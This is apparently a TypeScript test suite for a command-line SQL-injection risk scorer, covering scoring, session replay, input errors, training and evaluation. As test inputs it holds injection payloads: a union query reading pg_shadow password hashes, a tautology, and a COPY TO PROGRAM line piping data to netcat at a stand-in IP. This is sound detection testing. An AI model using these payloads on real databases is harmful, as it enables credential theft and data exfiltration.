import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import test from 'ava';

const folder = mkdtempSync(join(tmpdir(), 'postern-risk-cli-'));
test.after.always(() => rmSync(folder, { recursive: true, force: true }));

function risk(args: readonly string[], input = '') {
  const { status, stdout, stderr } = spawnSync(process.execPath, ['cli/main.ts', 'risk', ...args], {
    input,
    encoding: 'utf8',
  });
  return {
    status,
    stderr,
    lines: stdout
      .trim()
      .split('\n')
      .filter((line) => line !== ''),
  };
}

const lines = (values: readonly unknown[]): string => values.map((value) => JSON.stringify(value)).join('\n');

test('risk score prints score, verdict and reasons for each line', (t) => {
  const input = lines([
    { sql: 'select title from books where id = 3' },
    {
      sql: "select title from books where id = 3 union all select null, passwd from pg_shadow --'",
      context: { hour_utc: 3 },
    },
    { sql: 'selec nonsense (' },
  ]);
  const { status, lines: out } = risk(['score', '--jsonl'], input);
  t.is(status, 0);
  const [calm, attack, broken] = out.map((line) => JSON.parse(line));
  t.is(calm.verdict, 'ok');
  t.is(attack.verdict, 'hold');
  t.true(attack.score > 0.9 && calm.score < 0.2);
  t.true(attack.reasons.length >= 3 && attack.reasons.length <= 5);
  t.deepEqual(Object.keys(attack.reasons[0]).sort(), [
    'contribution',
    'direction',
    'feature',
    'sentence',
    'usual',
    'value',
  ]);
  t.true(broken.score > 0 && broken.score < 1);
});

test('risk replay prints one line for each session', (t) => {
  const statements = [0, 1, 2, 3].map((at) => ({
    t: at,
    sql: `copy t${at} to program 'nc 192.0.2.9 99'`,
    rows: 5,
    ms: 1,
  }));
  const input = lines([
    { id: 'a', statements: [{ t: 0, sql: 'select 1', rows: 1, ms: 1 }] },
    { id: 'b', statements },
  ]);
  const { status, lines: out } = risk(['replay', '--jsonl'], input);
  t.is(status, 0);
  const [calm, attack] = out.map((line) => JSON.parse(line));
  t.deepEqual([calm.id, calm.verdict, calm.at], ['a', 'ok', null]);
  t.is(attack.id, 'b');
  t.not(attack.verdict, 'ok');
  t.true(attack.at <= 2);
});

test('risk says what is wrong with its input', (t) => {
  t.like(risk(['score'], 'nonsense'), { status: 2, stderr: 'postern: line 1 is not JSON\n' });
  t.like(risk(['score'], '{"text": 1}'), { status: 2, stderr: 'postern: line 1 has no text "sql"\n' });
  t.like(risk(['replay'], '{"id": "a"}'), {
    status: 2,
    stderr: 'postern: line 1 has no list "statements"\n',
  });
  t.like(risk(['score', '--jsonl', '/nowhere'], ''), {
    status: 2,
    stderr: 'postern: there is no file /nowhere\n',
  });
  t.is(risk(['score', '--model', '/nowhere'], '{"sql": "select 1"}').status, 1);
  t.is(risk(['train', '--out', folder, '--trees', '900']).status, 2);
});

test('risk train makes a model without other data, risk eval measures it', (t) => {
  const model = join(folder, 'model');
  const trained = risk(['train', '--out', model, '--trees', '10', '--json']);
  t.is(trained.status, 0, trained.stderr);
  t.true(JSON.parse(trained.lines[0] as string).figures.statementAuroc > 0.6);
  t.regex(readFileSync(join(model, 'MODEL_CARD.md'), 'utf8'), /# Model card: risk model [0-9a-f]{12}/);
  const data = (file: string, values: readonly unknown[]) => writeFileSync(join(folder, file), lines(values));
  data(
    'benign.jsonl',
    [1, 2, 3].map((id) => ({ sql: `select a from b where c = ${id}`, kind: 'app', source: 'x' })),
  );
  data('malicious.jsonl', [
    { sql: "select a from b where c = '' or 1=1 --'", family: 'tautology', source: 'y' },
  ]);
  const report = join(folder, 'report');
  const measured = risk(['eval', '--data', folder, '--model', model, '--out', report]);
  t.is(measured.status, 0, measured.stderr);
  const figures = JSON.parse(readFileSync(join(report, 'report.json'), 'utf8'));
  t.is(figures.statements.count, 4);
  t.is(figures.sessions, null);
  t.regex(readFileSync(join(report, 'report.md'), 'utf8'), /\| tautology \| 1 \|/);
  t.regex(readFileSync(join(report, 'roc.svg'), 'utf8'), /^<svg /);
});
